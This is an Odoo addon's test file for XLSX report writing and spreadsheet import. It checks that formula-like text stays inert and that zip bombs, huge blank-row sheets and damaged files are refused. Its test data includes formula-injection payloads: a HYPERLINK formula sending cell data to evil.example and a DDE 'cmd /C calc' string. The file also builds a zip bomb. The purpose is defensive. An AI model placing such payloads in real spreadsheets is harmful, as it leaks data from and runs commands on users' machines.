# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
import datetime
import io
import time
import zipfile

import openpyxl

from odoo.exceptions import UserError
from odoo.tests import TransactionCase, tagged

from odoo.addons.park_base.models.park_xlsx_import_mixin import (
    XlsxColumn,
    XlsxSheet,
)
from odoo.addons.park_base.models.park_xlsx_report import (
    XlsxReportColumn,
    render_workbook,
    safe_sheet_name,
)

# text a spreadsheet would run or follow if written as it comes
DANGEROUS_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "http://evil.example/",
]


def xlsx_bytes(rows, title="Data"):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


def replace_member(content, name, transform):
    """The workbook with the zip member ``name`` replaced by
    ``transform(old bytes)``."""
    source = zipfile.ZipFile(io.BytesIO(content))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == name:
                data = transform(data)
            target.writestr(info, data)
    return output.getvalue()


def with_blank_rows(content, count, last_row=None):
    """``count`` empty ``<row>`` elements after the data of the first sheet,
    and a cell in ``last_row`` after them: a small file, a huge sheet."""

    def transform(data):
        text = data.decode()
        start = int(text.rsplit('<row r="', 1)[1].split('"', 1)[0]) + 1
        extra = "".join(f'<row r="{i}"/>' for i in range(start, start + count))
        if last_row:
            extra += (
                f'<row r="{last_row}"><c r="A{last_row}" t="inlineStr">'
                "<is><t>最后一行</t></is></c></row>"
            )
        return text.replace("</sheetData>", extra + "</sheetData>").encode()

    return replace_member(content, "xl/worksheets/sheet1.xml", transform)


def force_text(content):
    """The workbook with its cells written as text: openpyxl saves any text
    beginning with ``=`` as a formula, as a user's spreadsheet would not
    when the cell is formatted as text."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


def assert_text_cells(case, sheet):
    """Every dangerous text written in ``sheet`` is read back as text."""
    found = []
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value in DANGEROUS_TEXTS:
                case.assertEqual(cell.data_type, "s", cell.value)
                found.append(cell.value)
    return found


@tagged("post_install", "-at_install")
class TestXlsxWriter(TransactionCase):
    def test_text_stays_text(self):
        def build(writer):
            sheet = writer.add_sheet("数据")
            writer.header(sheet, 0, ["文本"], [30])
            for row, text in enumerate(DANGEROUS_TEXTS, start=1):
                writer.write_value(sheet, row, 0, text)
            writer.write_value(sheet, 10, 0, 3)
            writer.write_value(sheet, 11, 0, datetime.date(2026, 12, 1), "date")
            writer.write_value(sheet, 12, 0, True)
            writer.finish(sheet, 0, 12, 0)

        book = openpyxl.load_workbook(io.BytesIO(render_workbook(self.env, build)))
        sheet = book["数据"]
        self.assertEqual(
            sorted(assert_text_cells(self, sheet)), sorted(DANGEROUS_TEXTS)
        )
        self.assertFalse(sheet._hyperlinks)
        self.assertEqual(sheet["A11"].value, 3)
        self.assertEqual(sheet["A12"].value, datetime.datetime(2026, 12, 1))
        self.assertEqual(sheet["A13"].value, "Yes")
        self.assertEqual(sheet.freeze_panes, "A2")
        self.assertEqual(sheet.auto_filter.ref, "A1:A13")
        self.assertGreater(sheet.column_dimensions["A"].width, 29)

    def test_report_base_options(self):
        options = self.env["report.park_base.xlsx_abstract"].get_workbook_options()
        self.assertIs(options["strings_to_formulas"], False)
        self.assertIs(options["strings_to_urls"], False)

    def test_safe_sheet_names(self):
        self.assertEqual(safe_sheet_name("a[b]:c*d?e/f\\g"), "a b  c d e f g")
        long_name = "淄博高新技术产业开发区" * 4
        self.assertEqual(len(safe_sheet_name(long_name)), 31)
        used = ["园区"]
        self.assertEqual(safe_sheet_name("园区", used, suffixes=["P-1"]), "园区 P-1")
        used.append("园区 P-1")
        self.assertEqual(safe_sheet_name("园区", used, suffixes=["P-1"]), "园区 (2)")
        self.assertEqual(safe_sheet_name("''", fallback="Sheet"), "Sheet")
        name = safe_sheet_name(long_name, [long_name[:31]], suffixes=["CODE"])
        self.assertTrue(name.endswith(" CODE"))
        self.assertEqual(len(name), 31)

    def test_table_labels_not_codes(self):
        """A field column shows the selection label and the display name of
        relations; headers come as given (translated by the export)."""
        partner = self.env["res.partner"].create(
            {
                "name": "=1+1",
                "type": "invoice",
                "country_id": self.env.ref("base.cn").id,
            }
        )
        columns = [
            XlsxReportColumn("名称", "name", width=20),
            XlsxReportColumn("类型", "type"),
            XlsxReportColumn("国家", "country_id"),
        ]

        def build(writer):
            writer.table("伙伴", columns, partner, title="标题", numbered=True)

        book = openpyxl.load_workbook(io.BytesIO(render_workbook(self.env, build)))
        sheet = book["伙伴"]
        self.assertEqual([c.value for c in sheet[3]], ["No.", "名称", "类型", "国家"])
        self.assertEqual([c.value for c in sheet[4]], [1, "=1+1", "Invoice", "China"])
        self.assertEqual(sheet["B4"].data_type, "s")
        self.assertEqual(sheet.freeze_panes, "A4")
        self.assertEqual(sheet.auto_filter.ref, "A3:D4")


@tagged("post_install", "-at_install")
class TestXlsxReader(TransactionCase):
    """The import mixin's reading: bounded work, clear messages."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.Mixin = cls.env["park.xlsx.import.mixin"]
        cls.sheet = XlsxSheet(
            "Data",
            [
                XlsxColumn("name", "Name", True),
                XlsxColumn("type", "Type", False, "selection"),
                XlsxColumn("country_id", "Country", False, "many2one"),
                XlsxColumn("date", "Date", False, "date"),
                XlsxColumn("flag", "Flag", False, "bool"),
                XlsxColumn("count", "Count", False, "int"),
                XlsxColumn("amount", "Amount", False, "float", minimum=None),
            ],
            "res.partner",
        )

    def _read(self, content):
        errors = []
        workbook = self.Mixin._xlsx_load(content)
        try:
            lines = self.Mixin._xlsx_read_lines(workbook, workbook.worksheets[0])
            rows = self.Mixin._xlsx_read_sheet(lines, self.sheet, errors)
        finally:
            workbook.close()
        return rows, errors

    def test_conversion_by_kind(self):
        content = xlsx_bytes(
            [
                ["Name", "Type", "Country", "Date", "Flag", "Count", "Amount"],
                ["甲", "Invoice", "CN", "2026年12月1日", "是", 3, "1.2.3"],
                ["乙", "contact", "China", datetime.date(2026, 1, 2), "no", "4", 2.5],
                ["丙", "unknown", "Nowhere", "tomorrow", "maybe", 1.5, "x"],
                ["", "", "", "", "", -1, ""],
            ]
        )
        rows, errors = self._read(content)
        self.assertFalse(errors)
        errors = []
        ((_sheet, converted),) = self.Mixin._xlsx_convert([(self.sheet, rows)], errors)
        by_row = dict(converted)
        cn = self.env.ref("base.cn").id
        self.assertEqual(
            by_row[2],
            {
                "name": "甲",
                "type": "invoice",
                "country_id": cn,
                "date": datetime.date(2026, 12, 1),
                "flag": True,
                "count": 3,
            },
        )
        self.assertEqual(by_row[3]["type"], "contact")
        self.assertEqual(by_row[3]["country_id"], cn)
        self.assertEqual(by_row[3]["date"], datetime.date(2026, 1, 2))
        self.assertIs(by_row[3]["flag"], False)
        self.assertEqual((by_row[3]["count"], by_row[3]["amount"]), (4, 2.5))
        wrong = {(e.row, e.column) for e in errors}
        self.assertEqual(
            wrong,
            {
                (2, "Amount"),
                (4, "Type"),
                (4, "Country"),
                (4, "Date"),
                (4, "Flag"),
                (4, "Count"),
                (4, "Amount"),
                (5, "Name"),
                (5, "Count"),
            },
        )

    def test_many_blank_rows_are_fast_and_not_counted(self):
        content = xlsx_bytes([["Name"], ["甲"], ["乙"]])
        # one cell in row 1,000,000: the gap costs nothing, the row counts
        far = with_blank_rows(content, 0, last_row=1000000)
        # 300,000 blank rows written as such, then a cell
        blanks = with_blank_rows(content, 300000, last_row=1000000)
        self.assertLess(len(blanks), 2 * 1024 * 1024, "a small file")
        self.patch(type(self.Mixin), "_xlsx_max_rows", 3)
        start = time.monotonic()
        rows, errors = self._read(far)
        self.assertEqual([n for n, _v in rows], [2, 3, 1000000])
        rows, errors = self._read(blanks)
        self.assertLess(time.monotonic() - start, 3)
        self.assertFalse(errors)
        # the sheet ends after the blank rows: only the real rows count
        self.assertEqual([v["name"] for _n, v in rows], ["甲", "乙"])

    def test_too_many_rows_refused(self):
        self.patch(type(self.Mixin), "_xlsx_max_rows", 2)
        content = xlsx_bytes([["Name"], ["甲"], [None], ["乙"], ["丙"]])
        with self.assertRaisesRegex(UserError, "at most 2 rows"):
            self._read(content)

    def test_zip_bomb_refused(self):
        content = xlsx_bytes([["Name"], ["甲"]])
        output = io.BytesIO(content)
        with zipfile.ZipFile(
            output, "a", zipfile.ZIP_DEFLATED, compresslevel=1
        ) as archive:
            with archive.open("xl/media/image1.png", "w", force_zip64=True) as bomb:
                chunk = b"\0" * (1024 * 1024)
                for _i in range(70):
                    bomb.write(chunk)
        bomb = output.getvalue()
        self.assertLess(len(bomb), 1024 * 1024)
        with self.assertRaisesRegex(UserError, "too large once uncompressed"):
            self._read(bomb)

    def test_broken_xml_in_a_valid_zip(self):
        content = xlsx_bytes([["Name"], ["甲"]])
        for member in ("xl/worksheets/sheet1.xml", "xl/workbook.xml"):
            with self.subTest(member=member):
                broken = replace_member(
                    content, member, lambda data: data[: len(data) // 2]
                )
                with self.assertRaisesRegex(UserError, "cannot be read.*damaged"):
                    self._read(broken)
        with self.assertRaisesRegex(UserError, "cannot be read.*damaged"):
            self._read(b"PK\x03\x04 not really a zip")
